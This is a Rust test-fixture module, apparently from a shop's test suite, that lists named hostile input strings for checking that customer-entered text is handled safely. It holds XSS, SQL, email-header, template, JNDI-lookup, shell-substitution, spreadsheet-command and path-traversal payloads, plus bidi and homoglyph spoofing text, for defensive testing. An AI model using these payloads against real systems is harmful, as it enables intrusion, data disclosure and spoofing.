//! Texts that break careless programs. Stories put each of them wherever a customer or a platform can write.

/// Every hostile text with the name that a failing story reports.
pub fn strings() -> Vec<(&'static str, String)> {
    let short = SHORT.iter().map(|(name, text)| (*name, (*text).to_owned()));
    short.chain(built()).collect()
}

/// A text of exactly `bytes` bytes in ordinary words: long enough for any limit, honest in every character.
pub fn long_text(bytes: usize) -> String {
    "A cup of tea, please. ".chars().cycle().take(bytes).collect()
}

fn built() -> [(&'static str, String); 6] {
    [
        ("four_megabytes", long_text(4 * 1024 * 1024)),
        ("one_very_long_word", "Darjeeling".repeat(2_000)),
        ("a_long_word_with_hyphens", "first-flush-".repeat(500)),
        ("a_tower_of_combining_marks", format!("te{}a", "\u{0301}\u{0323}\u{0360}".repeat(400))),
        ("a_family_of_a_hundred_joiners", "👩\u{200D}".repeat(100) + "👩"),
        ("deeply_nested_markup", "<div>".repeat(5_000)),
    ]
}

#[rustfmt::skip]
const SHORT: &[(&str, &str)] = &[
    // Markup and script.
    ("script_element", "<script>alert(document.domain)</script>"),
    ("image_with_handler", "<img src=x onerror=alert(1)>"),
    ("attribute_breakout", "\" autofocus onfocus=\"alert(1)"),
    ("single_quote_breakout", "' onmouseover='alert(1)"),
    ("closing_title", "</title></textarea></style><svg onload=alert(1)>"),
    ("comment_opener", "--><!-- <b>"),
    ("script_link", "javascript:alert(1)"),
    ("data_link", "data:text/html,<script>alert(1)</script>"),
    ("entity_already_escaped", "Tea &amp; Biscuits &lt;3"),
    ("json_in_script", "</script><!--<script>{\"a\":1}"),
    // Lines that end where they should not.
    ("header_injection", "Amina\r\nBcc: everyone@example.test\r\n\r\nHello"),
    ("header_injection_with_lf", "Amina\nSubject: You have won"),
    ("encoded_header_injection", "Amina%0d%0aBcc:%20everyone@example.test"),
    ("smtp_end_of_data", "Tea\r\n.\r\nMAIL FROM:<x@example.test>"),
    ("line_separators", "one\u{2028}two\u{2029}three\u{0085}four"),
    ("encoded_word", "=?UTF-8?B?PGI+VGVhPC9iPg==?="),
    // Control characters.
    ("nul", "Dar\0jeeling"),
    ("escape_sequence", "\u{1B}[2J\u{1B}[31mred\u{7}"),
    ("delete_and_backspace", "tea\u{7F}\u{8}\u{8}\u{8}rum"),
    ("byte_order_mark", "\u{FEFF}Amina"),
    // Direction and scripts.
    ("bidi_override", "invoice\u{202E}fdp.exe"),
    ("bidi_isolates_left_open", "Amina \u{2067}\u{2067}\u{2066}"),
    ("right_to_left_name", "أمينة بنت يوسف الحدّاد"),
    ("hebrew_with_digits", "נועם 14 ב׳"),
    ("mixed_directions", "Tea שלום 100 g مرحبا (2)"),
    ("combining_marks", "Ame\u{0301}lie No\u{0308}e\u{0308}l"),
    ("stacked_marks", "t\u{0300}\u{0301}\u{0302}\u{0303}e\u{0330}\u{0331}a\u{035B}"),
    ("homoglyphs", "Nоrthwіnd Теа"),
    ("zero_width", "No\u{200B}rth\u{200C}wi\u{2060}nd"),
    ("japanese", "中村 陽菜 様"),
    ("thai_without_spaces", "ชาดำจากภูเขาสูงทางเหนือ"),
    ("capital_that_grows", "ßtraße ﬁne İstanbul"),
    // Emoji.
    ("emoji_with_joiners", "👩\u{200D}🚀👨\u{200D}👩\u{200D}👧\u{200D}👦🏳\u{FE0F}\u{200D}🌈"),
    ("emoji_with_skin_tones", "👍🏽👋🏿"),
    ("regional_indicators", "🇬🇧🇯🇵🇬"),
    ("keycaps_and_selectors", "1\u{FE0F}\u{20E3}☕\u{FE0E}"),
    ("beyond_the_basic_plane", "𝕿𝖊𝖆 𠜎𠜱"),
    ("noncharacters", "tea\u{FFFF}\u{10FFFF}\u{FDD0}"),
    // Databases.
    ("sql_quote", "O'Neil'; DROP TABLE orders; --"),
    ("sql_double_quote", "\" OR \"\"=\""),
    ("sql_placeholders", "?1 $1 :name @p %s"),
    ("like_wildcards", "100%_\\%"),
    ("backslashes", "\\' \\x27 \\u0027 \\0 \\"),
    // Templates, formats and shells.
    ("template_expression", "{{ customer.email }} {{{7*7}}}"),
    ("template_statement", "{% for x in range(999999999) %}x{% endfor %}"),
    ("template_comment_left_open", "{# never closed"),
    ("handlebars_block", "{{#each this}}{{this}}{{/each}}{{> secret}}"),
    ("fluent_placeable", "{ $name } { -brand } {\"\"}"),
    ("format_string", "%n%n%s {0} {} ${HOME} $(id) `id`"),
    ("lookup_expression", "${jndi:ldap://example.test/a}"),
    // Files that open in a spreadsheet, and paths.
    ("spreadsheet_formula", "=HYPERLINK(\"https://example.test\",\"Tea\")"),
    ("spreadsheet_command", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv_breakout", "tea\",\"1\r\n\"x\";y"),
    ("path_traversal", "../../../../etc/passwd"),
    ("encoded_path_traversal", "..%2f..%2f%00"),
    // Words that mean nothing or something else.
    ("empty", ""),
    ("only_spaces", " \t\u{A0}\u{3000} "),
    ("the_word_null", "null"),
    ("the_word_undefined", "undefined"),
    ("not_a_number", "NaN"),
    ("a_number_beyond_counting", "99999999999999999999999999"),
    ("scientific_notation", "1e309"),
    ("prototype_key", "__proto__"),
    ("text_message_that_costs_double", "Tea “quoted” – with a dash… and a €uro ✓"),
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn every_hostile_text_has_its_own_name() {
        let strings = strings();
        let names: BTreeSet<_> = strings.iter().map(|(name, _)| *name).collect();
        assert_eq!(names.len(), strings.len());
        assert!(strings.len() > 50);
    }

    #[test]
    fn the_long_text_is_exactly_as_long_as_asked() {
        assert_eq!(long_text(4 * 1024 * 1024).len(), 4 * 1024 * 1024);
        assert_eq!(long_text(0), "");
    }

    #[test]
    fn each_kind_of_attack_is_among_them() {
        let all: String = strings().into_iter().map(|(_, text)| text).collect();
        for needle in
            ["\0", "\u{202E}", "<script>", "\r\nBcc:", "{{", "{%", "'; DROP", "\u{200D}", "\u{0301}"]
        {
            assert!(all.contains(needle), "{needle:?}");
        }
    }
}
